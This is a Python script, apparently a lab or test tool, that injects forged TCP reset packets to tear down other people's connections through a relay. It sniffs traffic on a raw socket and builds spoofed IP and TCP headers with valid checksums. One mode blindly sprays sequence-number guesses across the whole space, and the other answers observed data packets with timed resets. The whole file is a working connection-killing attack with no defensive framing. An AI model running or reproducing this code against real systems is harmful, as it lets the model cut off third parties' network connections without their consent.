"""Ends other people's TCP connections with the relay: its port is given, the other one is seen.

resetter.py guess PORT   off the path: knows addresses and ports, and guesses the number, a window apart, everywhere
resetter.py know PORT    on the path: sees each packet and says at once that its sender gives up, ten times
"""
import random, socket, struct, sys, time


def words(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return total ^ 0xFFFF


def packets(port):
    tap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    tap.settimeout(20)
    while True:
        packet = tap.recv(65535)[14:]
        if len(packet) < 40 or packet[0] >> 4 != 4 or packet[9] != 6:
            continue
        start = (packet[0] & 15) * 4
        near, far, number, _, offset = struct.unpack("!HHIIB", packet[start : start + 13])
        if port in (near, far):
            size = struct.unpack("!H", packet[2:4])[0] - start - (offset >> 4) * 4
            flags = packet[start + 13]
            yield packet[12:16], packet[16:20], near, far, number, max(size, 0), flags


raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def reset(sender, receiver, near, far, number):
    number %= 1 << 32
    tcp = struct.pack("!HHIIBBHHH", near, far, number, 0, 0x50, 4, 0, 0, 0)
    sums = words(sender + receiver + struct.pack("!HH", 6, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack("!H", sums) + tcp[18:]
    head = struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0, 64, 6, 0) + sender + receiver
    raw.sendto(head + tcp, (socket.inet_ntoa(receiver), 0))


# The consumer's connection is the one from the translator at 21.
def of_consumer(port):
    return (it for it in packets(port) if 21 in (it[0][3], it[1][3]))


mode, port = sys.argv[1], int(sys.argv[2])
if mode == "guess":
    sender, receiver, near, far, _, _, _ = next(of_consumer(port))
    begin = random.getrandbits(16)
    for step in range(1 << 16):
        for one, other, here, there in ((sender, receiver, near, far), (receiver, sender, far, near)):
            reset(one, other, here, there, begin + (step << 16))
        if step % 512 == 0:
            time.sleep(0.005)
    print(f"{2 << 16} guesses")
else:
    told = 0
    for sender, receiver, near, far, number, size, flags in of_consumer(port):
        if size > 0 and not flags & 7:
            for ahead in (size, size + 1448, size + 2896):
                reset(sender, receiver, near, far, number + ahead)
            told += 1
        if told >= 10:
            break
    print(f"{told} packets answered with a reset")
